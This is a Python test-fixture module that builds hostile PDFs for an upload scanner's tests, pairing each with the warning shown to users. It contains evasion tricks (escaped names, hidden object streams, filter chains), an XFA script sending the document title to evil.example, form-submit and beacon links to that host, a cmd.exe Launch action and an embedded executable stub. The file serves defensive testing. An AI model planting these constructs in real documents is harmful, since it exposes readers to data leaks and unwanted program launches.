"""Hostile PDFs, made here from bytes (no binary fixture): each hides active content where a
scan of the raw bytes, or a walk of only some objects, would not see it. Used by
test_hostile_uploads.py (the hostile upload set) and test_security_pdf.py.

Each entry: (the PDF, a part of the message the person reads).
"""

from __future__ import annotations

import zlib

from test_uploads import build_pdf, object_stream_pdf, simple_pdf, stream

JAVASCRIPT = "The PDF contains JavaScript"
ACTIVE = "The PDF contains interactive content"
LAUNCH = "starts another program"
ATTACHED = "contains attached files"
TOO_COMPLEX = "too complex to be checked"

XFA_TEMPLATE = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="f">'
    b'<event activity="initialize"><script contentType="application/x-javascript">'
    b"app.launchURL('https://evil.example/?'+this.title)</script></event>"
    b"</subform></template></xdp:xdp>"
)


def unlisted_object_stream(objects: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    """A compressed object stream that no cross-reference entry points into: the names are
    only seen once the stream is decoded."""
    packed = zlib.compress(objects)
    if b"ASCIIHex" in filters:
        packed = packed.hex().encode() + b">"
    return simple_pdf(
        b"",
        b"",
        b"<< /Type /ObjStm /N 1 /First 4 /Filter %s /Length %d >>\nstream\n%s\nendstream"
        % (filters, len(packed), packed),
    )


def link(action: bytes) -> bytes:
    """A page with a link annotation (object 5) that runs ``action``."""
    return simple_pdf(
        b"",
        b"/Annots [5 0 R] ",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A %s >>" % action,
    )


def many_objects(count: int = 200_000) -> bytes:
    """A PDF of about 10 MB with ``count`` objects (the issue's bounded-parsing case)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    objects += [b"[%d]" % number for number in range(count)]
    return build_pdf(*objects)


HOSTILE_PDFS: dict[str, tuple[bytes, str]] = {
    # JavaScript wherever it sits.
    "pdf-js-escaped-name-J#53": (
        link(b"<< /S /J#61v#61Script /J#53 (app.alert\\(1\\)) >>"),
        JAVASCRIPT,
    ),
    "pdf-js-in-object-stream-escaped": (
        object_stream_pdf(
            b"<< /S /#4A#61vaScript /#4A#53 (app.alert\\(1\\)) >>",
            catalog_extra=b"/OpenAction 4 0 R ",
        ),
        JAVASCRIPT,
    ),
    "pdf-js-in-object-stream-behind-a-filter-chain": (
        object_stream_pdf(
            b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
            catalog_extra=b"/OpenAction 4 0 R ",
            hexed=True,
        ),
        JAVASCRIPT,
    ),
    "pdf-compressed-stream-hides-javascript": (
        unlisted_object_stream(b"9 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        JAVASCRIPT,
    ),
    "pdf-hex-and-flate-stream-hides-javascript": (
        unlisted_object_stream(
            b"9 0 << /S /J#61vaScript /JS (1) >>", b"[/ASCIIHexDecode /FlateDecode]"
        ),
        JAVASCRIPT,
    ),
    "pdf-javascript-in-page-additional-action": (
        simple_pdf(b"", b"/AA << /O << /S /JavaScript /JS (this.print\\(\\)) >> >> "),
        JAVASCRIPT,
    ),
    # XFA forms hold scripts in XML.
    "pdf-xfa-form-with-script": (
        simple_pdf(
            b"/AcroForm << /Fields [] /XFA 5 0 R >> /NeedsRendering true ",
            b"",
            stream(zlib.compress(XFA_TEMPLATE), b"/Filter /FlateDecode "),
        ),
        ACTIVE,
    ),
    # Actions that reach out: web addresses, form data sent or fetched, other files.
    "pdf-uri-link": (link(b"<< /S /URI /URI (https://evil.example/phish) >>"), ACTIVE),
    "pdf-uri-escaped-in-object-stream": (
        object_stream_pdf(
            b"<< /S /#55R#49 /#55RI (https://evil.example/beacon) >>",
            catalog_extra=b"/OpenAction 4 0 R ",
        ),
        ACTIVE,
    ),
    "pdf-submit-form": (
        link(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>"),
        ACTIVE,
    ),
    "pdf-gotor-network-share": (
        simple_pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >> "),
        ACTIVE,
    ),
    "pdf-import-data": (
        simple_pdf(b"/OpenAction << /S /ImportData /F (\\\\\\\\host\\\\share\\\\data.fdf) >> "),
        ACTIVE,
    ),
    "pdf-launch-in-page-additional-action": (
        simple_pdf(b"", b"/AA << /O << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >> "),
        LAUNCH,
    ),
    "pdf-open-action-named-print": (
        simple_pdf(b"/OpenAction << /S /Named /N /Print >> "),
        ACTIVE,
    ),
    "pdf-additional-actions-on-the-document": (
        simple_pdf(b"/AA << /WC << /S /ResetForm >> >> "),
        ACTIVE,
    ),
    # Containers: attached files and multimedia.
    "pdf-embedded-file-in-object-stream": (
        object_stream_pdf(
            b"<< /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >>",
            b"<< /Type /Filespec /F (x.exe) >>",
            catalog_extra=b"/Names 4 0 R ",
        ),
        ATTACHED,
    ),
    "pdf-embedded-file-stream": (
        simple_pdf(
            b"",
            b"/Annots [5 0 R] ",
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>",
            b"<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>",
            stream(zlib.compress(b"MZ payload"), b"/Type /#45mbeddedFile /Filter /FlateDecode "),
        ),
        ATTACHED,
    ),
    "pdf-rich-media": (
        simple_pdf(
            b"",
            b"/Annots [5 0 R] ",
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] "
            b"/RichMediaContent << /Assets << /Names [] >> >> >>",
        ),
        ACTIVE,
    ),
    "pdf-screen-rendition": (
        simple_pdf(
            b"",
            b"/Annots [5 0 R] ",
            b"<< /Type /Annot /Subtype /Screen /Rect [0 0 200 200] /A << /S /Rendition /OP 0 >> >>",
        ),
        ACTIVE,
    ),
    # Parsing bounded: 200,000 objects in under 10 MB.
    "pdf-200000-objects": (many_objects(), TOO_COMPLEX),
}
